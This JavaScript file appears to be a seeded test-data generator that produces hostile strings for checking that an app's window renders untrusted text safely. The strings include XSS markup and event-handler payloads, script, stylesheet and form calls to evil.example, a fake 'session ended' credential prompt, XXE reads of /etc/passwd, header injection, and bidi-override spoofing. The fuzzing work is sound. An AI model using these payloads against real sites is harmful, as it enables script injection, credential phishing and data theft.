// Words as somebody might send them who wants our window to act: 300 that try to become markup, script, an address, a style or a template, or to burst the
// page, and 50 that try to turn or hide what stands around them. The same seed gives the same words.

/** A small generator of numbers from a seed. */
export function dice(seed) {
  let state = seed >>> 0 || 1;
  const next = () => { state ^= state << 13; state >>>= 0; state ^= state >>> 17; state ^= state << 5; state >>>= 0; return state / 4_294_967_296; };
  return { next, below: (most) => Math.floor(next() * most), of: (all) => all[Math.floor(next() * all.length)] };
}

const QUOTES = ['"', "'", "`", ""];
const GAPS = [" ", "/", "\n", "\t", "\f", " \u00a0 "];
const OUT = "https://evil.example";
/** An element that must not come to be carries `pwn` as its class or id, a script that must not run calls `pwn()`. */
const EVENTS = ["onerror", "onload", "onclick", "onfocus", "onmouseover", "onanimationstart", "ontoggle", "onpointerenter", "onbegin", "onpageshow"];

const KINDS = {
  script: (roll) => {
    const close = roll.of(["", "</script>", "</style></script>", "--></script>", "]]></script>", "</textarea></script>", "</title></script>"]);
    return `${close}<${odd(roll, "script")}${roll.of(["", ` src=${OUT}/x.js`, " type=module", " async", "/x", ` class=pwn`])}>${roll.of(["pwn()", "window.pwn()", "parent.pwn()", "setTimeout(pwn)", "eval('pwn()')", "import('https://evil.example/m.js')"])}</${odd(roll, "script")}>`;
  },
  element: (roll) => {
    const gap = roll.of(GAPS);
    const what = roll.of(["img", "svg", "iframe", "object", "embed", "video", "audio", "details", "marquee", "math", "body", "input", "dialog", "portal", "link", "base", "meta"]);
    const quote = roll.of(QUOTES);
    return `<${odd(roll, what)}${gap}class=pwn${gap}src=${quote}${OUT}/${roll.below(99)}${quote}${gap}href=${OUT}/s.css${gap}data=${OUT}/o${gap}${roll.of(EVENTS)}=pwn()${roll.of([">", "/>", " autofocus tabindex=0>", " open>", ` rel=stylesheet>`])}`;
  },
  attribute: (roll) => `${roll.of(['"', "'", '">', "'>", '" ', "&quot; ", "\u0022\u003e"])}${roll.of(["", "/", " x "])}${roll.of(EVENTS)}=${roll.of(['"pwn()', "'pwn()", "pwn()", "`pwn()`", "pwn`1`"])} ${roll.of(["autofocus", "style=animation-name:x", "class=pwn", "srcdoc='<script>parent.pwn()</script>'", "tabindex=0"])} x=${roll.of(QUOTES)}`,
  address: (roll) => roll.of([
    `${odd(roll, "javascript")}:pwn()//${roll.below(999)}`, `java\nscript:pwn(${roll.below(99)})`, `\u0001javascript:pwn(${roll.below(99)})`, `data:text/html,<script>parent.pwn(${roll.below(99)})</script>`, `data:image/svg+xml,<svg onload=pwn(${roll.below(99)})>`,
    `vbscript:pwn(${roll.below(99)})`, `//evil.example/${roll.below(999)}`, `${OUT}/?q=${roll.below(999)}`, `file:///etc/passwd?${roll.below(99)}`, `blob:${OUT}/${roll.below(999)}`, `#/settings/data?${roll.below(999)}`, `ipc://localhost/key?${roll.below(99)}`, `fairlead://return?state=${roll.below(9999)}`,
  ]),
  style: (roll) => `${roll.of(["</style>", "", "*/", "}"])}<${odd(roll, "style")} class=pwn>${roll.of(["*", "body", ".main", "input[value^=a]"])}{background:url(${OUT}/${roll.below(999)}.png);${roll.of(["display:none", "position:fixed", "behavior:url(#x)", "-moz-binding:url(#x)", "width:expression(pwn())"])}}@import '${OUT}/${roll.below(99)}.css';</style>`,
  template: (roll) => `${roll.of(["{{", "${", "{", "<%=", "#{", "{@html ", "[[", "{%"])}${roll.of(["constructor.constructor('pwn()')()", "pwn()", "this.pwn()", "$emit.constructor`pwn()`()", "7*7", "globalThis.pwn()", "__proto__.pwn()"])}${roll.below(99)}${roll.of(["}}", "}", "%>", "]]", "%}"])}`,
  form: (roll) => `<${roll.of(["form", "button", "a", "input type=submit", "isindex"])} id=pwn${roll.below(99)} class=pwn ${roll.of(["action", "formaction", "href", "xlink:href", "ping"])}=${roll.of([`${OUT}/take`, "javascript:pwn()", "data:text/html,x"])} name=${roll.of(["body", "cookie", "getElementById", "location", "fairlead", "__TAURI_INTERNALS__"])}>Your session ended, type the key</${roll.of(["form", "button", "a"])}>`,
  entity: (roll) => roll.of([`&lt;img class=pwn src=x onerror=pwn(${roll.below(999)})&gt;`, `&#60;script&#62;pwn(${roll.below(999)})&#60;/script&#62;`, `%3Cscript%3Epwn(${roll.below(999)})%3C/script%3E`, `\\u003cscript\\u003epwn(${roll.below(999)})`, `\\x3cimg class=pwn src=x onerror=pwn(${roll.below(999)})\\x3e`, `+ADw-script+AD4-pwn(${roll.below(999)})`, `&NewLine;java&Tab;script:pwn(${roll.below(999)})`, `\ufe64script\ufe65pwn(${roll.below(999)})`, `\uff1cscript\uff1epwn(${roll.below(999)})`, `&amp;lt;b class=pwn&amp;gt;${roll.below(999)}`]),
  comment: (roll) => roll.of([`<!--><img class=pwn src=${OUT}/${roll.below(99)} onerror=pwn()>-->`, `<![CDATA[<script>pwn(${roll.below(99)})</script>]]>`, `<?xml-stylesheet href="${OUT}/${roll.below(99)}.xsl"?>`, `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd${roll.below(99)}">]>&y;`, `<noscript><p title="</noscript><img class=pwn src=x onerror=pwn(${roll.below(99)})>">`, `<math><mtext><table><mglyph><style><img class=pwn src=x onerror=pwn(${roll.below(99)})>`, `<svg><foreignObject><body class=pwn onload=pwn(${roll.below(99)})>`, `<template class=pwn><script>pwn(${roll.below(99)})</script></template>`, `<b class=pwn>bold</b><u class=pwn>${roll.below(999)}</u>`]),
  long: (roll) => roll.of(["W", "m", "界", "-", "_", "A1", "ﷺ"]).repeat(200 + roll.below(300)) + roll.below(999),
  control: (roll) => `A${roll.of(["\0", "\u0007", "\u0008", "\u001b[2J\u001b[31m", "\r\n", "\n\n\n", "\t\t", "\u000b", "\u0085", "\u2028", "\u2029", "\u009b31m", "\ud800", "\udfff", "\ufffe", "\uffff"])}B${roll.of(["\r\nSet-Cookie: a=b", "\n2026-11-23 INFO key accepted", "\0.exe", ""])}${roll.below(999)}`,
  flood: (roll) => roll.of([`Z${"\u0300\u0316\u0323\u0489\u20dd".repeat(20 + roll.below(40))}`, "👩‍👩‍👧‍👦".repeat(20 + roll.below(20)), "🏳️‍🌈🇬🇧".repeat(20 + roll.below(20)), `${"\u0e01\u0e49".repeat(2)}${"\u0e49".repeat(60 + roll.below(60))}`, `${"\u2800".repeat(40)}${roll.below(99)}`, "\u00a0".repeat(60 + roll.below(99)), "𒐫".repeat(20 + roll.below(40)), "﷽".repeat(10 + roll.below(20))]) + roll.below(999),
};
const TURNING = {
  override: (roll) => `${roll.of(["PAY", "invoice", "Ltd", "1,204.00"])}${roll.of(["\u202e", "\u202d", "\u202b", "\u202a"])}${roll.of(["fdp.exe", "LLORYAP", "00.009,1 TUO", "moc.live"])}${roll.of(["", "\u202c", "\u202c\u202c\u202c"])}${roll.below(999)}`,
  isolate: (roll) => `${roll.of(["\u2066", "\u2067", "\u2068", "\u2069", "\u2069\u2069"])}Harbour${roll.of(["\u2069", "\u202e", "\u2067", ""])} ${roll.below(999)}${roll.of(["\u2067", "\u202b", ""])}`,
  hidden: (roll) => `Ba${roll.of(["\u200b", "\u200c", "\u2060", "\ufeff", "\u00ad", "\u180e", "\u{e0041}", "\u200e", "\u200f", "\u061c"])}rclays${roll.of(["\u200b", "\ufff9x\ufffb", "\u200d", ""])} ${roll.below(999)}`,
  letters: (roll) => `${roll.of(["שלום בע״מ", "شركة النور للتجارة", "ܫܠܡܐ", "ޝިޔާމް", "ߒߞߏ"])} ${roll.below(99)}, ${roll.below(9)}.${roll.of(["!", ")", "(", "-"])}`,
};

/** A letter here and there in the other case. */
function odd(roll, word) {
  return roll.below(2) ? word : [...word].map((letter) => (roll.below(2) ? letter.toUpperCase() : letter)).join("");
}

/** 25 of each of the twelve kinds, then 50 of the four that turn or hide: `{ text, kind, turns }`, no two alike. */
export function words(seed) {
  const roll = dice(seed);
  const found = new Map();
  const make = (kinds, each, turns) => {
    for (const [kind, one] of Object.entries(kinds)) for (let made = 0; made < each[kind]; ) {
      const text = one(roll);
      if (!found.has(text)) { found.set(text, { text, kind, turns }); made += 1; }
    }
  };
  make(KINDS, Object.fromEntries(Object.keys(KINDS).map((kind) => [kind, 25])), false);
  make(TURNING, { override: 15, isolate: 13, hidden: 12, letters: 10 }, true);
  return [...found.values()];
}
